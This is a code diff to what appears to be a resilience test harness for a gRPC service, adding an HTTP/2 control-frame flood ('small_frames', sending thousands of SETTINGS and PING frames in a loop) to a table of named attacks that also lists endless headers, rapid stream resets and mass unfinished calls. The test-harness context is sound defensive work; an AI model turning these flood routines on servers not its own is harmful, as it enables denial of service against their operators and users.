@@ -18,7 +18,7 @@ from hidiffusion_api.v1 import generation_service_pb2_grpc
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 #: Types and flags of frames, RFC 9113, section 6.
-_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x9
+_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
 _END_HEADERS = 0x4
 
 #: Attackers stand in lanes of their own where they come from an address of their own.
@@ -54,10 +54,8 @@ _BEGIN = _PREFACE + _frame(_SETTINGS, 0)
 
 @contextlib.contextmanager
 def _connected(address: Address):
-    with (
-        contextlib.suppress(OSError),
-        socket.create_connection(address, 10, source_address=_FROM) as end,
-    ):
+    end = socket.create_connection(address, 10, source_address=_FROM)
+    with end, contextlib.suppress(OSError):
         yield end
 
 
@@ -95,6 +93,15 @@ def reset_streams(address: Address, _: str) -> None:
                     for each in numbers
                 )
             )
+
+
+def small_frames(address: Address, _: str) -> None:
+    """Frames that ask for nothing, as fast as they are taken."""
+    many = _frame(_SETTINGS, 0) * 2_000 + _frame(_PING, 0, bytes(8), 0x1) * 2_000
+    with _connected(address) as end:
+        end.sendall(_BEGIN)
+        for _ in range(10_000):
+            end.sendall(many)
 
 
 def unfinished_calls(count: int) -> Attack:
@@ -143,6 +150,7 @@ ATTACKS: dict[str, tuple[int, Attack]] = {
     "gRPC: endless headers": (8, endless_headers),
     "gRPC: 20,000 unfinished calls": (200, unfinished_calls(100)),
     "gRPC: streams begun and reset": (8, reset_streams),
+    "gRPC: frames that ask for nothing": (8, small_frames),
     "gRPC: 1,000 event streams": (1, watchers(1000)),
     "gRPC: 2,500 event streams": (1, watchers(2500)),
 }
